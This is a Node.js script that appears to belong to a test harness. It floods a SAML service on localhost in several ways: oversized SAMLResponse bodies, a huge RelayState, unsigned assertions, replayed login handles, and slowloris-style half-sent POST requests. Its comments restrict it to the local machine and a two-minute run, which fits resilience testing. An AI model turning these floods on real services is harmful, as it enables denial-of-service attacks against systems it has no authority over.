// One flood from 127.0.0.1 against a service on this machine, until it is told to stop: attacker.mjs KIND PORT CONNECTIONS.
// Ends by itself after two minutes. Knows no key; `handles` takes authentic handles from /saml/login as anybody can.

import { randomBytes } from 'node:crypto';
import { connect } from 'node:net';
import { openClient } from './client.mjs';
import { assertionXml, responseXml } from './messages.mjs';

const [, , kind, portText, countText] = process.argv;
const port = Number(portText);
const count = Number(countText);
const KB = 1024;
const client = openClient(port, '127.0.0.1', count);
const field = (xml) => `SAMLResponse=${encodeURIComponent(Buffer.from(xml).toString('base64'))}`;
const unsigned = field(responseXml(assertionXml({ groups: 250 })));

const login = async () => {
  const answer = await client.login();
  return answer.status === 302 ? new URL(answer.headers.location).searchParams.get('RelayState') : undefined;
};

const shots = {
  D1: () => client.answer(`SAMLResponse=${'A+'.repeat(340 * KB)}`),
  D2: () => client.answer(`SAMLResponse=YQ%3D%3D&RelayState=${'+'.repeat(680 * KB)}`),
  D4: () => client.answer(unsigned),
  handles: async () => {
    const handle = await login();
    for (let time = 0; time < 3 && handle !== undefined; time++) {
      await client.answer(`${unsigned}&RelayState=${handle}`);
    }
  },
  login: () => client.login(),
};

async function fire() {
  for (;;) {
    try {
      const answer = await shots[kind]();
      if (answer?.status === 503) await new Promise((done) => setTimeout(done, 20));
    } catch {
      await new Promise((done) => setTimeout(done, 20));
    }
  }
}

/** Announces a large body, sends most of it, and never the rest; begins anew when it is thrown out. */
function halfSend() {
  const socket = connect({ port, host: '127.0.0.1' });
  socket.on('error', () => undefined);
  socket.on('close', () => setTimeout(halfSend, 1000 + 4 * randomBytes(1)[0]));
  socket.resume();
  socket.write(
    `POST /saml/acs HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${700 * KB}\r\n\r\nSAMLResponse=`,
  );
  socket.write('A'.repeat(650 * KB));
}

setTimeout(() => process.exit(0), 120_000);
process.on('SIGTERM', () => process.exit(0));
console.log('ready');
for (let each = 0; each < count; each++) {
  if (kind === 'half-sent') halfSend();
  else void fire();
}
